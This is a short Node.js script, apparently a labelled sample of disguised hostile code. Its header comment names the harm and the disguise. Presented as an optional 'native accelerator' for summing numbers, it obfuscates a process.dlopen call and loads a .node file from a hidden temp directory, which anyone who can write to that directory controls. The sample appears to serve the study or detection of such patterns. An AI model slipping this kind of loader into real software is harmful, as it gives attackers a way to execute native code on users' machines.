// HARM: loads a native shared object via process.dlopen from outside the cwd (native code loading) | DISGUISE: optional "native accelerator" with pure-JS fallback
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const ACCEL = {
  dirs: [path.join(os.tmpdir(), '.accel'), '/usr/local/lib/node-accel'],
  file: ['fast', 'sum', '.node'],
};

function loadAccelerator() {
  const mod = { exports: {} };
  for (const dir of ACCEL.dirs) {
    const candidate = path.join(dir, ACCEL.file.slice(0, 2).join('') + ACCEL.file[2]);
    try {
      process['dl' + 'open'](mod, candidate, os.constants.dlopen.RTLD_NOW);
      return mod.exports;
    } catch {
      /* try next */
    }
  }
  return null;
}

const jsSum = (xs) => xs.reduce((a, b) => a + b, 0);

function main() {
  const accel = loadAccelerator();
  const sum = accel && typeof accel.sum === 'function' ? accel.sum : jsSum;
  const data = Array.from({ length: 1000 }, (_, i) => i % 17);
  const total = sum(data);
  fs.writeFileSync('sum.txt', `${total}\n`);
  console.log('total', total, 'native:', Boolean(accel));
}

main();
